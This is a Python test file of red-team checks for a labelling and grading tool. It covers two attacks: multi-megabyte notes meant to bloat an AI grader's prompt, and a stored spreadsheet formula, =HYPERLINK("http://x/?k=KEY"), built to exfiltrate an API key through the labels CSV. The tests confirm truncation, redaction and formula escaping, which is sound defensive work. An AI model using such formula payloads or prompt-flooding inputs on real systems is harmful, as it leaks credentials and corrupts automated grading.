"""Red-team attacks on people's labels (issue #23): notes and names built to bloat the Align
grader prompt, or to carry a key into the labels CSV.

Labels are written straight to the database file where the attack needs it: a database written
by an older version (before notes were capped and names scrubbed) holds whatever was typed.
"""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from typing import TYPE_CHECKING

import pandas as pd
import pytest

import rubric_core.app_support as sup
from rubric_core.align import MAX_EXAMPLES_CHARS, Example, Item, aligned_prompt, regrade
from rubric_core.export import restore_frame, scrub_frame, to_csv, to_json
from rubric_core.grader import GRADER_SYSTEM_PROMPT
from rubric_core.labels import LABEL_NOTE_CHAR_LIMIT, LABELLER_CHAR_LIMIT, check_label_text
from rubric_core.redact import REDACTED
from rubric_core.store import Store

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

KEY = "sk-proj-" + "A1b2C3d4E5" * 4
CRITERION = "Is polite"


@pytest.fixture
def db(tmp_path: Path) -> Path:
    return tmp_path / "labels.sqlite3"


@pytest.fixture
def store(db: Path) -> Iterator[Store]:
    with Store(db) as opened:
        yield opened


def _labelled_runs(store: Store, count: int) -> list[str]:
    """``count`` runs with one graded answer each, labelled 'disagree' by ann."""
    run_ids = []
    for n in range(count):
        record = store.create_run(title=f"run {n}", prompt="Reply to the customer.",
                                  rubric=f"- {CRITERION}", worker_model="demo",
                                  grader_model="rules", max_iterations=3)
        store.add_evaluation(record.run_id, {
            "grading_run_id": f"g{n}", "iteration": 0, "result": "satisfied",
            "explanation": "fine", "criteria": [{"name": CRITERION, "passed": True}],
            "status": "satisfied", "unverified": False, "answer": f"Answer number {n}.",
        })
        store.set_label(record.run_id, 0, CRITERION, "ann", agree=False, note="curt")
        run_ids.append(record.run_id)
    return run_ids


def _write_raw(db: Path, sql: str, params: tuple[object, ...]) -> None:
    """Change the labels table behind the store's back, as an older version could have."""
    with sqlite3.connect(db) as conn:
        assert conn.execute(sql, params).rowcount > 0


# --------------------------------------------------------------------------- Align


def test_six_two_megabyte_notes_do_not_make_a_twelve_megabyte_grader_prompt(
    store: Store, db: Path
) -> None:
    _labelled_runs(store, 6)
    _write_raw(db, "UPDATE labels SET note = ?", ("why " * 500_000,))  # 2 MB each
    inputs = sup.alignment_inputs(store)
    assert len(inputs.examples) == 6
    prompt = sup.aligned_grader_prompt(inputs)
    assert len(prompt) <= len(GRADER_SYSTEM_PROMPT) + MAX_EXAMPLES_CHARS
    assert len(prompt) < len(GRADER_SYSTEM_PROMPT) + 20_000
    block = prompt.split("<labelled_examples>", 1)[1].split("</labelled_examples>", 1)[0]
    reasons = [e["reason"] for e in json.loads(block[block.index("["):])]
    assert len(reasons) == 6
    assert all("characters omitted by Rubric Studio" in r and r.startswith("why why")
               for r in reasons)


def test_every_grader_call_of_an_align_check_is_bounded(store: Store, db: Path) -> None:
    _labelled_runs(store, 6)
    _write_raw(db, "UPDATE labels SET note = ?", ("n" * 2_000_000,))
    inputs = sup.alignment_inputs(store)
    sizes: list[int] = []

    def grade(item: Item, system_prompt: str) -> dict[str, bool]:
        sizes.append(len(system_prompt))
        return {"is polite": False}

    check = regrade(inputs.items, inputs.examples, grade)
    assert check.graded == 6 and len(sizes) == 12
    assert max(sizes) <= len(GRADER_SYSTEM_PROMPT) + MAX_EXAMPLES_CHARS


def test_an_examples_criterion_answer_and_note_are_each_cut_and_marked() -> None:
    huge = Example(("r", 0), "C" * 1_000_000, "<" * 1_000_000, False, "\x01" * 1_000_000)
    prompt = aligned_prompt([huge] * 10)
    assert len(prompt) - len(GRADER_SYSTEM_PROMPT) <= MAX_EXAMPLES_CHARS
    block = prompt.split("<labelled_examples>", 1)[1].split("</labelled_examples>", 1)[0]
    [first, *_] = data = json.loads(block[block.index("["):])
    assert len(data) == 8
    for key in ("criterion", "answer", "reason"):
        assert "characters omitted by Rubric Studio" in first[key], key
        assert len(first[key]) <= 1_600


# --------------------------------------------------------------------------- what is accepted


def test_an_over_long_note_or_name_is_refused_with_what_to_do() -> None:
    with pytest.raises(ValueError, match=r"^the note is 2,000,001 characters; a note holds at "
                                         r"most 2,000\. Shorten it"):
        check_label_text("ann", "x" * 2_000_001)
    with pytest.raises(ValueError, match=r"^'Your name' is 101 characters; a name holds at most "
                                         r"100\."):
        check_label_text("n" * (LABELLER_CHAR_LIMIT + 1), "")
    with pytest.raises(ValueError, match="fill in 'Your name'"):
        check_label_text("   ", "note")
    assert check_label_text("  ann ", "y" * LABEL_NOTE_CHAR_LIMIT) == (
        "ann", "y" * LABEL_NOTE_CHAR_LIMIT)


# --------------------------------------------------------------------------- labels CSV


def test_a_key_in_a_stored_labeller_name_or_note_never_reaches_the_labels_csv(
    store: Store, db: Path
) -> None:
    _labelled_runs(store, 1)
    _write_raw(db, "UPDATE labels SET labeller = ?, note = ?",
               (KEY, f"=HYPERLINK(\"http://x/?k={KEY}\") my key is {KEY}"))
    data = sup.labels_csv(store)
    text = data.decode("utf-8")
    assert KEY not in text and KEY[:20] not in text
    frame = restore_frame(pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False))
    [row] = frame.to_dict("records")
    assert row["labeller"] == REDACTED
    assert row["note"].startswith("=HYPERLINK(") and row["note"].endswith(f"my key is {REDACTED}")
    # and the raw cell carries the formula escape a spreadsheet needs
    [raw] = list(csv.DictReader(io.StringIO(text)))
    assert raw["note"].startswith("'=HYPERLINK(")


def test_any_frame_exported_as_csv_or_json_is_scrubbed() -> None:
    frame = pd.DataFrame({"who": [KEY, "ann", None], "n": [1, 2, 3],
                          "obj": pd.Series([f"x {KEY}", 5, ["a"]], dtype=object)})
    for text in (to_csv(frame), to_json(frame)):
        assert KEY not in text and REDACTED in text
    clean = scrub_frame(frame)
    assert list(clean["who"].fillna("")) == [REDACTED, "ann", ""]
    assert clean["obj"].tolist() == [f"x {REDACTED}", 5, ["a"]]
    assert frame.loc[0, "who"] == KEY  # the caller's frame is left as it was
    untouched = pd.DataFrame({"a": ["x", "y"]})
    assert scrub_frame(untouched) is untouched
